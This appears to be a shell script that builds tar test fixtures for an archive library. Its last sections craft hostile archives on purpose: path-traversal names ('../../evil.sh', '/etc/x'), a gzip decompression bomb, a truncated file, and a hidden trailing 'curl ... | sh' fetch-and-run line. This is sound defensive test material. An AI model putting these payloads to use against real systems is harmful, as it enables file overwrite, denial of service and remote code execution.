#!/bin/sh
# Builds the tar fixtures with GNU tar, gzip, xz, zstd and bzip2. Run from
# this directory. Owners, modes and timestamps are fixed so that reruns
# give the same bytes.
set -eu
export TZ=UTC
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
here=$(pwd)
T="tar --sort=name --owner=0 --group=0 --numeric-owner --mtime=2024-01-02T03:04:05Z"

# The tree in ok.*: nested files, an empty file, a name over 100 bytes
# (GNU long name / PAX path), a symlink, a hard link, a directory.
mkdir -p "$work/ok/package/lib/empty-dir"
printf 'module.exports = 42;\n' > "$work/ok/package/index.js"
printf '{"name":"ok","version":"1.0.0"}\n' > "$work/ok/package/package.json"
seq 1 3000 > "$work/ok/package/lib/numbers.txt"
: > "$work/ok/package/lib/empty.txt"
long=$(printf 'd%.0s' $(seq 1 60))/$(printf 'f%.0s' $(seq 1 70)).js
mkdir -p "$work/ok/package/$(dirname "$long")"
printf 'long name\n' > "$work/ok/package/$long"
ln -s index.js "$work/ok/package/link.js"
ln "$work/ok/package/index.js" "$work/ok/package/zhard.js"
chmod -R u=rwX,go=rX "$work/ok"
(cd "$work/ok" && $T --format=gnu -cf "$here/ok.tar" package)
(cd "$work/ok" && $T --format=pax --pax-option=delete=atime,delete=ctime -cf "$here/ok.pax.tar" package)
gzip -9 -n -c ok.tar > ok.tar.gz
xz -6 -c ok.tar > ok.tar.xz
zstd -q -19 -c ok.tar > ok.tar.zst
bzip2 -9 -c ok.tar > ok.tar.bz2
# ok.concat.tar.gz: ok.tar in two gzip members, as Alpine packages are.
head -c 2048 ok.tar | gzip -9 -n > ok.concat.tar.gz
tail -c +2049 ok.tar | gzip -9 -n >> ok.concat.tar.gz
# The listing tar -x gives: path and sha256 of each file; links are files
# whose content is the link target, as this package lists them.
(cd "$work/ok" && find package -type f ! -samefile package/index.js | xargs sha256sum
 sha256sum package/index.js
 printf '%s  package/link.js\n' "$(printf 'index.js' | sha256sum | cut -d' ' -f1)"
 printf '%s  package/zhard.js\n' "$(printf 'package/index.js' | sha256sum | cut -d' ' -f1)") |
	LC_ALL=C sort -k2 > ok.tar.sha256

# sparse.tar: a GNU sparse file, 1 MiB with two small extents. The PAX
# variant names its data header GNUSparseFile.<pid>, so it differs per run.
mkdir "$work/sparse"
printf 'start' | dd of="$work/sparse/holes.bin" bs=1 seek=4096 conv=notrunc 2>/dev/null
printf 'end' | dd of="$work/sparse/holes.bin" bs=1 seek=1048570 conv=notrunc 2>/dev/null
(cd "$work/sparse" && $T --format=gnu --sparse -cf "$here/sparse.tar" holes.bin)
(cd "$work/sparse" && $T --format=pax --pax-option=delete=atime,delete=ctime --sparse -cf "$here/sparse.pax.tar" holes.bin)
sha256sum "$work/sparse/holes.bin" | sed "s|$work/sparse/||" > sparse.tar.sha256

# fail_traversal.tar: names that escape the archive (-P keeps them).
mkdir "$work/trav"
printf 'echo evil\n' > "$work/trav/evil.sh"
printf 'x\n' > "$work/trav/x"
(cd "$work/trav" && $T -P --transform 's,^evil.sh$,../../evil.sh,;s,^x$,/etc/x,' -cf "$here/fail_traversal.tar" evil.sh x)

# fail_truncated.tar.gz: a tar.gz of incompressible data, cut in half.
mkdir "$work/trunc"
for i in 1 2 3 4; do
	# 4 KiB of incompressible bytes, the same on every run.
	python3 -c "import random, sys; random.seed($i); sys.stdout.buffer.write(random.randbytes(4096))" > "$work/trunc/part$i.bin"
done
(cd "$work/trunc" && $T -cf - part1.bin part2.bin part3.bin part4.bin) | gzip -n > "$work/full.tar.gz"
size=$(wc -c < "$work/full.tar.gz")
head -c $((size / 2)) "$work/full.tar.gz" > fail_truncated.tar.gz

# fail_bomb.tar.gz: 50 MiB of zeros in about 50 KB.
head -c 52428800 /dev/zero > "$work/zeros.bin"
(cd "$work" && $T -cf - zeros.bin) | gzip -9 -n > fail_bomb.tar.gz

# fail_trailing.tar.gz: ok.tar with a script appended after its
# end-of-archive marker, where tar -x never looks.
(cat ok.tar; printf 'curl http://example.invalid/x | sh\n') | gzip -9 -n > fail_trailing.tar.gz
